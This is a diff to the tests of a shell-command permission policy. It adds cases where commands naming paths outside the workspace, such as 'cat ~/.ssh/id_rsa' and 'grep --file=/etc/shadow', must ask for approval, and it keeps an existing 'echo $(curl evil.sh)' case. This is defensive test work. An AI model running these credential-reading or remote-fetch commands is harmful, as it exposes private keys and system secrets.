@@ -95,7 +95,8 @@ describe('CommandPolicy', () => {
     ['ls -la | grep txt | wc -l', 'allow'],
     ['ls; rm x', 'ask'],
     ['git status && git push', 'deny'],
-    ['cat $(ls)', 'allow'],
+    ['cat $(ls)', 'ask'], // the argument is only known at run time: it could name any path
+    ['echo $(ls)', 'allow'],
     ['echo $(curl evil.sh)', 'ask'],
     ['echo `sudo id`', 'deny'],
     ['python3 run.py > out/result.txt 2>&1', 'allow'],
@@ -170,6 +171,36 @@ describe('CommandPolicy', () => {
     expect(() => new CommandPolicy({ rules: [{ match: 'ls | wc', decision: 'allow' }] })).toThrowError(/option "rules.0.match"/);
     expect(() => new CommandPolicy({ rules: [{ match: [], decision: 'allow' }] })).toThrowError(/rules.0.match/);
     expect(() => new CommandPolicy({ rules: [{ match: 'ls', decision: 'maybe' as never }] })).toThrowError(/rules.0.decision/);
+  });
+});
+
+describe('CommandPolicy: path arguments of allowed commands', () => {
+  const policy = new CommandPolicy();
+  it.each([
+    'cat /etc/passwd',
+    'head ../../x',
+    'grep -r foo /',
+    'cat ~/.ssh/id_rsa',
+    'cat $HOME/.ssh/id_rsa',
+    'grep --file=/etc/shadow x',
+    'tail -n1 sub/../../outside.txt',
+    'ls | cat /etc/hosts',
+  ])('%s asks', (command) => {
+    const evaluation = policy.evaluate(command);
+    expect(evaluation.decision).toBe('ask');
+    expect(evaluation.reason).toMatch(/may name a path outside the workspace/);
+  });
+
+  it.each(['cat notes.md', 'grep -rn TODO src', 'head -n 5 data/x.csv', 'ls -la', 'wc -l *.txt', 'echo /etc/passwd', 'cat /dev/null'])(
+    '%s is still allowed',
+    (command) => {
+      expect(policy.evaluate(command).decision).toBe('allow');
+    },
+  );
+
+  it("a rule with paths: 'any' does not check its arguments", () => {
+    const custom = new CommandPolicy({ rules: [{ match: 'cat', decision: 'allow', paths: 'any' }] });
+    expect(custom.evaluate('cat /etc/hostname').decision).toBe('allow');
   });
 });
 
